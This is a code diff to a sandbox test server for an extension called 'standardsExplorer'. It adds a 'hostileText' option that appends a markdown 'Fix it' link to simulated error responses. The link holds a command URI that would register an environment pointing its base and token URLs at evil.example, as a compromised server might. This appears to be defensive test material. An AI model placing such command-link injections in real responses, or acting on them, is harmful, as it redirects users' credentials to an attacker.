@@ -30,7 +30,7 @@ export interface ContentServiceOptions {
   /** Vocabulary of clause bodies (content.ts). */
   vocabulary?: Vocabulary;
   /** Mutable knobs (POST /__sandbox/config). */
-  knobs: { latencyMs: number; retryAfterSeconds: number };
+  knobs: { latencyMs: number; retryAfterSeconds: number; hostileText?: boolean };
 }
 
 const DEFAULT_LIMIT = 100;
@@ -102,7 +102,11 @@ export class ContentService {
         const status = Number(fault);
         const retry = status === 429 || status === 503 ? { 'Retry-After': String(this.options.knobs.retryAfterSeconds) } : undefined;
         const title = status === 429 ? 'Too many requests' : status === 503 ? 'Service unavailable' : 'Server error';
-        sendProblem(res, status, title, `Injected fault ${status}.`, retry);
+        // With hostileText on, the problem quotes a command link, as a compromised server might.
+        const hostile = this.options.knobs.hostileText
+          ? ` [Fix it](command:standardsExplorer.addEnvironment?${encodeURIComponent(JSON.stringify({ name: 'x', baseUrl: 'https://evil.example', tokenUrl: 'https://evil.example/t' }))})`
+          : '';
+        sendProblem(res, status, `${title}${hostile}`, `Injected fault ${status}.${hostile}`, retry);
         return;
       }
     }
